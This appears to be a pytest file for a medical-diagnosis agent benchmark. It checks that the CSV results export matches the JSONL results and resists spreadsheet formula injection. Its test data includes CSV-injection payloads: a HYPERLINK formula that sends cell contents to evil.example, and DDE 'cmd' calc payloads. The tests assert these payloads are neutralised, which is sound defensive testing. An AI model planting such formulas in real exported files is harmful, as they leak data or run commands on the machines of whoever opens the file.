"""results.csv beside results.jsonl: one line per cell, the rows' scalar fields."""
import csv
import json
import re
from pathlib import Path

from agents.results import CSV_COLUMNS, read_results, write_results_csv
from agents.textsafe import UNSAFE_CHARS
from medsim.cli import main


def _csv(out):
    with (out / "results.csv").open(newline="", encoding="utf-8") as fh:
        return list(csv.reader(fh))


def test_results_csv_after_a_run_and_after_resume(tmp_path):
    out = tmp_path / "run"
    argv = ["bench", "--cases", "demo", "--llm", "scripted", "--limit", "4", "--seeds", "0,1", "--out", str(out),
            "--no-progress"]
    assert main(argv) == 0
    rows = read_results(out / "results.jsonl")
    table = _csv(out)
    head, body = table[0], table[1:]
    assert len(body) == len(rows) == 8
    assert head[: len(CSV_COLUMNS)] == [c for c in CSV_COLUMNS if c in rows[0]]  # a stable order
    assert len(set(head)) == len(head) and all(len(line) == len(head) for line in body)
    by_key = {(r["case_id"], str(r["seed"]), r["condition"]): r for r in rows}
    for line in body:
        d = dict(zip(head, line))
        r = by_key[(d["case_id"], d["seed"], d["condition"])]
        assert d["tests_requested"] == "; ".join(r["tests_requested"])
        assert d["correct"] == str(r["correct"]) and d["error"] == "" and int(d["prompt_tokens"]) == r["prompt_tokens"]
        assert d["diagnosis"] == r["diagnosis"]  # commas and quotes survive the quoting
    # resume after a kill: the csv is written again with every row
    lines = (out / "results.jsonl").read_text().splitlines(keepends=True)
    (out / "results.jsonl").write_text("".join(lines[:3]))
    (out / "results.csv").unlink()
    assert main([*argv, "--resume"]) == 0
    again = _csv(out)
    assert again[0] == head and len(again) == 1 + 8
    assert {tuple(x[:3]) for x in again[1:]} == {tuple(x[:3]) for x in body}


# -- no formula, no raw control character (issue 23) ---------------------------------------------------
FORMULAS = ['=HYPERLINK("http://evil.example/?"&G2,"Pneumonia")', "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "  =1+1", "\uff1d1+1", "-", "=", "@"]


def test_no_cell_of_results_csv_is_a_formula_and_numbers_stay_numbers(tmp_path):
    rows = [{"case_id": f"c{i}", "seed": 0, "condition": "base", "diagnosis": f, "truth": "Pneumonia",
             "tests_requested": [f, "ECG"], "wall_s": -1.5, "turns": -3, "cost": 0, "extra": "-4.5e2"}
            for i, f in enumerate(FORMULAS)]
    rows.append({"case_id": "=cmd", "seed": 0, "condition": "@base", "diagnosis": "Pneu\u202emonia\x1b[31m",
                 "truth": "Pneumonia", "wall_s": 2.0, "turns": 1, "cost": -12})
    path = write_results_csv(rows, tmp_path / "results.csv")
    raw = path.read_text(encoding="utf-8")
    assert not re.search(f"[{UNSAFE_CHARS.replace(chr(13), '')}]", raw.replace("\r\n", "\n")), "a raw control or bidi mark"
    table = _csv(tmp_path)
    head, body = table[0], table[1:]
    cells = [dict(zip(head, line)) for line in body]
    trigger = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")
    for line in body:
        for cell in line:  # no cell a spreadsheet would evaluate, but plain numbers
            if cell.lstrip(" ").startswith(trigger):
                float(cell)
    for f, d in zip(FORMULAS, cells):
        if f.startswith("\r"):  # a CR is written escaped ("\\r"): the cell starts with a backslash, no formula
            assert d["diagnosis"] == "\\r" + f[1:]
        else:
            assert d["diagnosis"] == "'" + f, d["diagnosis"]
            assert d["tests_requested"] == f"'{f}; ECG"
        assert (d["wall_s"], d["turns"], d["cost"], d["extra"]) == ("-1.5", "-3", "0", "-4.5e2")  # numbers stay numbers
    last = cells[-1]
    assert (last["case_id"], last["condition"]) == ("'=cmd", "'@base") and last["cost"] == "-12"
    assert last["diagnosis"] == "Pneu\\u202emonia\\x1b[31m"  # escaped visibly, nothing hidden or reordered


def test_a_bench_run_writes_no_formula_from_a_case_or_a_model(tmp_path):
    src = json.loads((Path(__file__).resolve().parents[2] / "agents" / "casesets" / "demo.jsonl")
                     .read_text(encoding="utf-8").splitlines()[0])
    src["id"] = "=HYPERLINK(\"http://x/?\"&G2,\"a\")"
    src["OSCE_Examination"]["Correct_Diagnosis"] = '=HYPERLINK("http://evil.example/?"&G2,"Pneumonia")'
    cases = tmp_path / "cases.jsonl"
    cases.write_text(json.dumps(src) + "\n", encoding="utf-8")
    out = tmp_path / "run"
    assert main(["bench", "--cases", str(cases), "--llm", "scripted", "--out", str(out), "--no-progress"]) == 0
    (line,) = _csv(out)[1:]
    d = dict(zip(_csv(out)[0], line))
    assert d["truth"].startswith("'=") and d["diagnosis"].startswith("'=") and d["case_id"].startswith("'=")
    assert read_results(out / "results.jsonl")[0]["truth"] == src["OSCE_Examination"]["Correct_Diagnosis"]  # exact
